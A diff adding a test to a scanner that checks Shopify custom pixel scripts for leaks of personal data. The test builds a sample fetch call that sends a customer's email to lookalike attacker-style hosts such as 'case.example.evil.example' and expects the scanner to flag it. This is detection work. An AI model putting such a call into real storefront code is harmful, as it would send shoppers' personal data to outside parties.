@@ -4,6 +4,7 @@ import { sandboxDocument } from '../../../test/support/sandbox-document.ts';
 import type { DetailedFinding } from '../../domain/scan-report.ts';
 import { customPixelFacts } from '../custom-pixels/read-custom-pixel.ts';
 import { detailedReport } from '../report/detailed-report.ts';
+import type { Fact } from '../tags/facts.ts';
 import { CUSTOM_PIXEL_RULES } from './custom-pixels.ts';
 
 const OWN = new Set(CUSTOM_PIXEL_RULES.map(({ id }) => id));
@@ -135,4 +136,28 @@ test('a name of a pixel or of an event is not shown if it may be personal data',
 test('Shopify’s default pixel gives nothing', () => {
   const code = `analytics.subscribe('all_standard_events',function(i){console.log(i.name)});`;
   expect(customPixelFacts(sandboxDocument(code, 'shopify-custom-pixel'), { pixelId: '901' })).toEqual([]);
+});
+
+test('what the shop sends to itself is no finding', () => {
+  const code = (host: string) => `fetch('https://${host}/in', {body: init.data.customer.email})`;
+  const shop: Fact = {
+    offset: 0,
+    line: 1,
+    column: 1,
+    script: 1,
+    excerpt: '',
+    kind: 'mark',
+    name: 'pixel_base',
+    value: 'https://www.case.example',
+  };
+  const found = (host: string) =>
+    detailedReport([shop, ...customPixelFacts(sandboxDocument(code(host)), { pixelId: '901' })]).findings.some(
+      ({ rule_id }) => rule_id === 'custom_pixel_personal_data',
+    );
+  expect(['case.example', 'api.case.example', 'evilcase.example', 'case.example.evil.example'].map(found)).toEqual([
+    false,
+    false,
+    true,
+    true,
+  ]);
 });
